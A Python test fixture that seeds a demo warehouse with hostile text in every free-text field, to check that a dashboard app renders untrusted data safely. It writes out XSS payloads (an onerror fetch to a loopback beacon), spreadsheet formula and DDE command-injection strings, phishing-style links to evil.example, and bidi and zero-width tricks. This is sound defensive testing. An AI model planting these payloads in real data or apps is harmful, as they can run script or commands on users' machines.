"""A hostile copy of the demo book: every free-text column holds a payload.

Markdown links and images, raw HTML, bold, spreadsheet formulas, Streamlit's own colour and icon
shortcodes, bare URLs, 10,000-character strings, right-to-left and zero-width characters, all
pointing at a beacon (a loopback URL the test counts requests to). Keys, codes, enumerations and
emails stay valid so the app works; the flags, notes and churn tags are written through
queries.writeback, as the forms would write them.
"""
from __future__ import annotations

import datetime as dt

import polars as pl
import sqlalchemy as sa

from queries import forecasts, writeback as wb
from queries.db import Warehouse
from queries.definitions import dbt_vars
from queries.migrations import migrate
from queries.demo_writeback import seed_churn_tags, seed_forecasts
from warehouse.load import write_tables
from warehouse.synth import Shape, generate
from warehouse.transform import run_dbt

LONG = 10_000
# Warehouse columns that are free text (not codes the queries compare against)
FREE_TEXT = {
    "accounts": ["name", "industry", "plan"],
    "csms": ["name"],  # team is poisoned apart: one payload per team, so a team stays one team
    "contacts": ["name", "title"],
    "nps_responses": ["comment"],
    "cs_activities": ["outcome"],
    "onboarding_surveys": ["comment"],
    "business_events": ["note"],
    "renewals": ["stage"],
    "health_components": ["label", "description"],
}


def payloads(beacon: str) -> list[str]:
    """Each payload once; `beacon` is the base URL whose request count proves a fetch."""
    return [
        f"[Session expired, sign in again]({beacon}/link)",
        f"![pixel]({beacon}/image.png)",
        f"<img src=x onerror=\"fetch('{beacon}/onerror')\">",
        f"<a href=\"{beacon}/anchor\">click here</a>",
        "**bold**",
        f"=HYPERLINK(\"{beacon}/formula\",\"open\")",
        f"{beacon}/bare-url and www.evil.example and payload@evil.example",
        ":red[colour] :material/home: $x^2$ <b>html bold</b>",
        "\u202eright-to-left override\u202c and \u200fRLM\u200f",
        "zero\u200bwidth\u200cjoin\u200dchars\ufeff",
        "W" * LONG,
        f"+cmd|' /C calc'!A0 [x]({beacon}/plus)",
        f"@SUM(1+1) ![i]({beacon}/at.png)",
        f"-2+3 <a href='{beacon}/minus'>m</a>",
    ]


def _poison(frame: pl.DataFrame, columns: list[str], texts: list[str]) -> pl.DataFrame:
    """Replace each row's value by a payload (cycling), keeping the original after it so values stay
    distinct; nulls stay null."""
    n = len(texts)
    out = []
    for column in columns:
        picks = pl.Series([texts[i % n] for i in range(frame.height)])
        out.append(pl.when(pl.col(column).is_null()).then(None)
                   .otherwise(pl.lit(picks) + pl.lit(" · ") + pl.col(column)).alias(column))
    return frame.with_columns(out)


def hostile_frames(shape: Shape, beacon: str) -> dict[str, pl.DataFrame]:
    texts = payloads(beacon)
    frames = generate(shape)
    for table, columns in FREE_TEXT.items():
        frames[table] = _poison(frames[table], columns, texts)
    teams = sorted(set(frames["csms"]["team"].to_list()))
    renamed = {team: f"{texts[(i + 3) % len(texts)]} · {team}" for i, team in enumerate(teams)}
    frames["csms"] = frames["csms"].with_columns(pl.col("team").replace(renamed))
    return frames


def _writer(wh: Warehouse, role: str) -> wb.Writer:
    with wh.engine.connect() as conn:
        email, team, csm_id = conn.execute(sa.text("select email, team, csm_id from csms where role = :r "
                                                   "order by csm_id limit 1"), {"r": role}).one()
    return wb.Writer(email=email, role=role, team=team, csm_id=csm_id)


def write_hostile_writeback(wh: Warehouse, beacon: str) -> dict[str, int]:
    """Flags, flag notes and churn tags written through queries.writeback with payload text (cut to
    the write limits), and payload labels in the churn-reason taxonomy."""
    texts = payloads(beacon)
    migrate(wh, create_schema=True)
    seed_churn_tags(wh)
    seed_forecasts(wh)  # decided renewals with forecasts: the accuracy view lists the (payload) CSM names
    ops = _writer(wh, "ops")
    with wh.engine.connect() as conn:
        live = conn.execute(sa.text("select account_id from account_snapshot where is_live "
                                    "order by arr desc limit :n"), {"n": 2 * len(texts)}).scalars().all()
        churned = conn.execute(sa.text("select account_id from account_snapshot where not is_live "
                                       "order by account_id limit :n"), {"n": len(texts)}).scalars().all()
    flags = 0
    for i, account_id in enumerate(live):
        text = texts[i % len(texts)]
        flag_id = wb.raise_flag(wh, ops, account_id, 1 + i % 3, text[:wb.REASON_MAX], text[:wb.NOTE_MAX], None,
                                dt.date.today() + dt.timedelta(days=30))
        wb.note_flag(wh, ops, flag_id, texts[(i + 1) % len(texts)][:wb.NOTE_MAX])
        if i % 4 == 3:
            wb.resolve_flag(wh, ops, flag_id, texts[(i + 2) % len(texts)][:wb.NOTE_MAX])
        flags += 1
    for i, account_id in enumerate(churned):
        wb.tag_churn(wh, ops, account_id, "other", ["other"], texts[i % len(texts)][:wb.NOTE_MAX])
    with wh.engine.begin() as conn:
        codes = conn.execute(sa.text(f"select code from {wh.app_schema}.churn_reasons order by code")).scalars().all()
        for i, code in enumerate(codes):
            conn.execute(sa.text(f"update {wh.app_schema}.churn_reasons set label = :l where code = :c"),
                         {"l": f"{texts[i % len(texts)][:200]} · {code}", "c": code})
    with wh.engine.connect() as conn:
        renewals = conn.execute(sa.text("select renewal_id from renewals where outcome is null "
                                        "and account_id in :live order by account_id")
                                .bindparams(sa.bindparam("live", expanding=True)), {"live": list(live)}).scalars().all()
    for i, renewal_id in enumerate(renewals):  # the flagged accounts' open renewals: a payload note on each
        forecasts.record_forecast(wh, ops, renewal_id, "at_risk", 1_000, texts[i % len(texts)][:wb.NOTE_MAX])
    return {"flags": flags, "tags": len(churned), "forecasts": len(renewals)}


def build_hostile_book(wh: Warehouse, shape: Shape, beacon: str) -> dict[str, int]:
    """The whole hostile book into `wh` (its warehouse tables, rollups and app tables)."""
    write_tables(wh.engine, hostile_frames(shape, beacon))
    wh.engine.dispose()  # dbt opens the warehouse itself (a DuckDB file: one opener at a time)
    # the marts, without dbt's tests: the payloads break the contract's accepted values on purpose
    run_dbt(wh.url, "run", variables=dbt_vars())
    try:
        return write_hostile_writeback(wh, beacon)
    finally:
        wh.engine.dispose()  # the app server opens an embedded DuckDB file next; one process at a time
